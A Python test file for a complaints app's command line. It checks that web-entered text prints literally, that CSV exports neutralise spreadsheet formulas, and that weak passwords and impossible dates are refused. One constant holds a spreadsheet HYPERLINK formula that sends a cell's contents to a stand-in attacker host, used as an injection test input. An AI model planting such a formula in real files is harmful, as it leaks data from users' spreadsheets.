"""The command line meets what people typed in the web app: printed as text (never rich markup), exported as CSV
that a spreadsheet does not run, weak passwords and impossible dates refused in one line."""

from __future__ import annotations

import csv
from pathlib import Path

from earful.schema import upgrade
from earful_complaints.config import ComplaintsSettings
from earful_complaints.register import apply_action
from earful_records.db import make_engine
from tests.complaints.conftest import ensure_staff, open_one
from tests.complaints.test_cli import _run
from tests.complaints.test_web_attacks import _token, signed_in
from tests.complaints.web_fixtures import running_app

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def test_cli_shows_web_input_as_text_and_exports_formulas_defused(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    engine = make_engine(f"sqlite:///{tmp_path}/data/records.db")
    upgrade(engine)
    settings = ComplaintsSettings()
    with running_app(engine, settings) as web:
        dana = signed_in(web, "dana")
        created = dana.post(
            "/new",
            data={
                "csrf_token": _token(dana.get("/new").text),
                "channel": "email",
                "description": "[red]boom[/red] [/bold]",
                "topic": "[/bold]",
            },
        )
        assert created.status_code == 303
        manual = created.headers["location"].rsplit("/", 1)[1]
    ensure_staff(engine)
    labelled = open_one(engine, settings, 9, title=FORMULA)
    apply_action(
        engine, settings, labelled, "acknowledge", {"ack_channel": "public_reply", "ack_text": "Sorry"}, actor="dana"
    )
    engine.dispose()

    listed = _run(tmp_path, "list")
    assert listed.returncode == 0, listed.stderr
    assert "[/bold]" in listed.stdout
    shown = _run(tmp_path, "show", manual)
    assert shown.returncode == 0 and "[red]boom[/red] [/bold]" in shown.stdout

    out = tmp_path / "labels.csv"
    exported = _run(tmp_path, "export-labels", "-o", str(out))
    assert exported.returncode == 0, exported.stderr
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert [r["text"] for r in rows] == ["'" + FORMULA + "\n\nMy order arrived broken and nobody answers."]


def test_cli_refuses_weak_passwords_and_impossible_dates_in_one_line(tmp_path: Path) -> None:
    weak = _run(tmp_path, "users", "add", "boss", "--role", "admin", env={"EARFUL_COMPLAINTS_PASSWORD": "aaaaaaaaaa"})
    assert weak.returncode == 1 and "at least 15 characters" in weak.stderr
    assert "Traceback" not in weak.stderr and "aaaaaaaaaa" not in weak.stderr + weak.stdout
    common = _run(
        tmp_path, "users", "add", "boss", "--role", "admin", env={"EARFUL_COMPLAINTS_PASSWORD": "Password2026!!!!!!"}
    )
    assert common.returncode == 1 and "commonly used" in common.stderr
    good = _run(
        tmp_path,
        "users",
        "add",
        "boss",
        "--role",
        "admin",
        env={"EARFUL_COMPLAINTS_PASSWORD": "a kettle that sings at dawn"},
    )
    assert good.returncode == 0, good.stderr
    far = _run(tmp_path, "report", "--from", "2026-01-01", "--to", "9999-12-31")
    assert far.returncode == 1 and "report dates must lie between" in far.stderr and "Traceback" not in far.stderr
    assert len(far.stderr.strip().splitlines()) == 1


def test_cli_password_change_ends_web_sessions(tmp_path: Path) -> None:
    """`earful complaints users set ivan --password` (a real process) signs ivan out of the web app at once."""
    (tmp_path / "data").mkdir()
    engine = make_engine(f"sqlite:///{tmp_path}/data/records.db")
    upgrade(engine)
    with running_app(engine, ComplaintsSettings()) as web:
        ivan, dana = signed_in(web, "ivan"), signed_in(web, "dana")
        changed = _run(
            tmp_path,
            "users",
            "set",
            "ivan",
            "--password",
            env={"EARFUL_COMPLAINTS_PASSWORD": "a fresh and rather long passphrase"},
        )
        assert changed.returncode == 0, changed.stderr
        assert ivan.get("/").status_code == 303 and dana.get("/").status_code == 200
    engine.dispose()
